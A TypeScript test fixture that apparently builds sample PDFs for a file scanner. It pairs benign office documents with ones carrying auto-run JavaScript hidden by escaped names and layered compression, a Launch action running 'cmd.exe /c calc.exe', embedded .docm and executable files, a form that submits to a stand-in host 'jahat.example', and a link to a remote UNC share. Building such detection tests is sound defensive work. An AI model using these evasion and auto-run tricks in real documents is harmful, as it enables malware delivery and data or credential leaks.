import { deflateSync } from 'node:zlib';
import { ascii85, asciiHex, lzw, packOf, pdfOf, runLength, stream, updated } from '../make-pdf.ts';
import type { Make } from './make.ts';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const openScript = { catalog: '/OpenAction 5 0 R' };

const packed = (entries: string, pack: (bytes: Buffer) => Uint8Array): Buffer =>
  pdfOf({ ...openScript, objects: [packOf([[6, script]], entries, pack)] });

const flate = '/Filter /FlateDecode';
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`;
const isPlain = (bytes: Buffer) => bytes;

const signature = `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 100 200 300] /Contents <${'30'.repeat(40)}> /Name (Kepala Dinas) >>`;

/** PDFs that do more than show pages, and PDFs as offices print, sign and fill them. */
export const pdfs: Readonly<Record<string, Make>> = {
  'pdf script on opening': () => pdfOf({ ...openScript, objects: [script] }),
  'pdf script with escaped name': () =>
    pdfOf({ ...openScript, objects: ['<< /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>'] }),
  'pdf script by name': () =>
    pdfOf({ catalog: `/Names << /JavaScript << /Names [(a) 5 0 R] >> >>`, objects: ['<< >>'] }),
  'pdf script as a stream': () =>
    pdfOf({ objects: ['<< /S /JavaScript /JS 6 0 R >>', stream('', 'app.alert(1)')] }),
  'pdf kind of action elsewhere': () =>
    pdfOf({ catalog: '/OpenAction << /S 5 0 R /J 6 0 R >>', objects: ['/JavaScript', '(x)'] }),
  'pdf script packed': () => packed(flate, deflateSync),
  'pdf script packed in hexadecimal': () =>
    packed('/Filter [/ASCIIHexDecode /FlateDecode]', (bytes) => asciiHex(deflateSync(bytes))),
  'pdf script packed in short names': () =>
    packed('/Filter [/A85 /Fl]', (bytes) => ascii85(deflateSync(bytes))),
  'pdf script packed by lzw': () =>
    packed('/Filter [/ASCII85Decode /LZWDecode]', (bytes) => ascii85(lzw(bytes))),
  'pdf script packed in runs': () => packed('/Filter /RunLengthDecode', runLength),
  'pdf script in a bare pack': () => packed('', isPlain),
  'pdf script in a pack inside a text': () =>
    pdfOf({
      ...openScript,
      objects: [
        stream(
          `/Type /ObjStm /N 1 /First 5 ${flate}`,
          deflateSync(`6 1  (${script.replaceAll('\\', '')})`),
        ),
      ],
    }),
  'pdf pack whose filter stands elsewhere': () =>
    pdfOf({ objects: [packOf([[6, '<< >>']], '/Filter 9 0 R', deflateSync)] }),
  'pdf pack with two filters to choose from': () =>
    packed('/F /FlateDecode /Filter /ASCIIHexDecode', deflateSync),
  'pdf pack that is broken': () =>
    packed(flate, (bytes) => Buffer.concat([deflateSync(bytes).subarray(0, -9), Buffer.alloc(9)])),
  'pdf script in a comment': () => pdfOf({ catalog: `%9 0 obj ${script} endobj\n` }),
  'pdf script in a picture': () =>
    pdfOf({ ...openScript, objects: [stream('', `abc 9 0 obj ${script} endobj`)] }),
  'pdf script in an update': () => updated(pdfOf(), 4, script),
  'pdf script before an update': () =>
    updated(pdfOf({ objects: [script] }), 5, '<< /S /GoTo /D [3 0 R /Fit] >>'),
  'pdf key that stands twice': () =>
    pdfOf({ objects: ['<< /S /JavaScript /JS (app.alert\\(1\\)) /S /GoTo >>'] }),
  'pdf program': () =>
    pdfOf({
      ...openScript,
      objects: ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>'],
    }),
  'pdf file inside': () =>
    pdfOf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a.docm) 5 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (a.docm) /EF << /F 6 0 R >> >>',
        stream('/Type /EmbeddedFile', 'PK'),
      ],
    }),
  'pdf file pinned to a page': () =>
    pdfOf({
      page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /EF << /F 5 0 R >> >> >>]',
      objects: [stream('', 'MZ')],
    }),
  'pdf film with programs': () =>
    pdfOf({ page: '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> /Rect [0 0 9 9] >>]' }),
  'pdf form of xml': () =>
    pdfOf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: [stream('', '<xdp:xdp/>')] }),
  'pdf form that sends': () =>
    pdfOf({ page: link('/S /SubmitForm /F << /FS /URL /F (https://jahat.example/) >>') }),
  'pdf form that fetches': () => pdfOf({ page: link('/S /ImportData /F (data.fdf)') }),
  'pdf page that acts when it opens': () =>
    pdfOf({ page: '/AA << /O << /S /URI /URI (https://jahat.example/) >> >>' }),
  'pdf page that acts by reference': () =>
    pdfOf({
      page: '/AA 5 0 R',
      objects: ['<< /C 6 0 R >>', '<< /S /URI /URI (https://jahat.example/) >>'],
    }),
  'pdf that opens a site by itself': () =>
    pdfOf({ catalog: '/OpenAction << /S /URI /URI (https://slot.example/) >>' }),
  'pdf that opens a page and then more': () =>
    pdfOf({
      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>',
    }),
  'pdf that reads from a share': () =>
    pdfOf({ page: link('/S /GoToR /F (\\\\\\\\203.0.113.9\\\\a.pdf) /D [0 /Fit]') }),
  'pdf that reads from inside': () => pdfOf({ page: link('/S /GoToE /D [0 /Fit] /T << /R /C >>') }),
  'pdf link that runs': () => pdfOf({ page: link('/S /URI /URI (javascript:alert\\(1\\))') }),
  'pdf locked': () =>
    pdfOf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 /R 3 >>'] }),
  'pdf that begins late': () => Buffer.concat([Buffer.from('\n\n'), pdfOf()]),
  'pdf that ends early': () => pdfOf().subarray(0, -40),

  pdf: () => pdfOf(),
  'pdf with a link': () => pdfOf({ page: link('/S /URI /URI (https://palukota.go.id/)') }),
  'pdf that opens at a place': () => pdfOf({ catalog: '/OpenAction [3 0 R /XYZ null null 0]' }),
  'pdf that opens at a place by name': () =>
    pdfOf({ catalog: '/OpenAction 5 0 R', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
  'pdf with packed objects': () =>
    pdfOf({
      objects: [
        packOf(
          [
            [6, '<< /Title (Bab 1) >>'],
            [7, '[3 0 R /Fit]'],
          ],
          flate,
          deflateSync,
        ),
      ],
    }),
  'pdf on scripts': () =>
    pdfOf({
      trailer: '/Info 5 0 R',
      objects: ['<< /Title (Pelatihan /JavaScript /JS dan /Launch) /Author (Dinas Kominfo) >>'],
    }),
  'pdf on scripts, packed': () =>
    pdfOf({
      objects: [packOf([[6, '<< /Title (Cara menulis /S /JavaScript) >>']], flate, deflateSync)],
    }),
  'pdf signed': () =>
    updated(
      pdfOf({
        catalog: '/AcroForm << /SigFlags 3 /Fields [5 0 R] >> /Perms << /DocMDP 6 0 R >>',
        objects: ['<< /FT /Sig /T (TTE) /V 6 0 R >>', signature],
      }),
      6,
      signature,
    ),
  'pdf form to fill in': () =>
    pdfOf({
      catalog: '/AcroForm << /Fields [5 0 R] /DA (/Helv 0 Tf 0 g) >>',
      objects: ['<< /FT /Tx /T (nama) /V () /DA (/Helv 12 Tf 0 g) >>'],
    }),
  'pdf saved again': () => updated(pdfOf(), 4, stream('', 'BT (Surat edaran, ralat) Tj ET')),
  'pdf with bookmarks': () =>
    pdfOf({
      catalog: '/Outlines 5 0 R /PageMode /UseOutlines',
      objects: [
        '<< /Type /Outlines /First 6 0 R /Count 1 >>',
        '<< /Title (Launch aplikasi) /Parent 5 0 R /Dest [3 0 R /Fit] >>',
      ],
    }),
  'pdf with tags': () =>
    pdfOf({
      catalog: '/MarkInfo << /Marked true >> /StructTreeRoot 5 0 R /Lang (id-ID)',
      objects: ['<< /Type /StructTreeRoot /K << /S /Sect /K << /S /Figure /Alt (Peta) >> >> >>'],
    }),
  'pdf with a scan': () =>
    pdfOf({
      objects: [
        stream('/Subtype /Image /Width 8 /Height 8 /Filter /DCTDecode', '\xff\xd8\xff\xd9'),
      ],
    }),
  'pdf with a drawing in letters': () =>
    pdfOf({
      objects: [
        stream('/Filter [/ASCII85Decode /FlateDecode]', ascii85(deflateSync('0 0 m 9 9 l S'))),
      ],
    }),
  'pdf with a font called as an action': () =>
    pdfOf({
      page: '/Resources << /Font << /AA 5 0 R >> >>',
      objects: ['<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>'],
    }),
  'pdf with zeros behind': () => Buffer.concat([pdfOf(), Buffer.from('\r\n\0\0\0')]),
};
